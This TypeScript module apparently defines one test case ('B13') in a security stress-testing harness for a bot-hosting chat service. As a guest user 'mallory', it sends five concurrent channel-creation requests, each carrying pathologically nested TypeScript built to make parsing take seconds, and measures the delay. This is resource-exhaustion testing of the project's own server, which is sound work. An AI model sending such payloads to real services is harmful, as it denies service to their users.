import type { Attack } from './attack.js';
import { guest, post } from './requests.js';

const DEPTH = 26;
const SOURCE = `x=${'<a>('.repeat(DEPTH)}1${')'.repeat(DEPTH)}\nexport default class Slow { onMessage() {} }`;

export const attack: Attack = {
  about: 'B13: TypeScript that takes seconds to parse',
  atOnce: 5,
  measured: 'attach',
  prepare: async (url) => ({ token: await guest(url, 'mallory') }),
  send: (url, { token }) =>
    post(
      url,
      '/create_channel',
      { name: 'Slow', slots: ['bot:referee'], bot_code: SOURCE, bot_language: 'typescript' },
      token,
    ),
};
